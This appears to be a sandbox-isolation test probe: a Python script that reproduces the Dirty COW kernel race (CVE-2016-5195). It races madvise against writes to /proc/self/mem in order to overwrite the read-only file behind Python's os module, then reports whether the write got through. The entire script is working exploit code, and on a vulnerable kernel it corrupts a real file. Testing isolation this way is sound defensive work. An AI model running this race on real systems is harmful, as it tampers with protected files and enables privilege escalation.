# Races a private mapping of a read-only file against madvise, to change the file.
# source: CVE-2016-5195
# control: none it needs a kernel of 2016
# not applicable gvisor: gVisor's kernel has no /proc/self/mem that can be written to
import mmap
import os
import threading
import time

path = os.__file__
before = open(path, "rb").read(16)
mapping = mmap.mmap(os.open(path, os.O_RDONLY), 4096, mmap.MAP_PRIVATE, mmap.PROT_READ)
start = [int(line.split("-")[0], 16) for line in open("/proc/self/maps") if line.endswith(path + "\n")][0]
end = time.monotonic() + 0.5


def drop():
    while time.monotonic() < end:
        mapping.madvise(mmap.MADV_DONTNEED)


thread = threading.Thread(target=drop)
thread.start()
with open("/proc/self/mem", "r+b", buffering=0) as memory:
    while time.monotonic() < end:
        memory.seek(start)
        memory.write(b"OVERWRITTEN")
thread.join()
print("the file:", "refused (unchanged)" if open(path, "rb").read(16) == before else "ALLOWED (changed)")
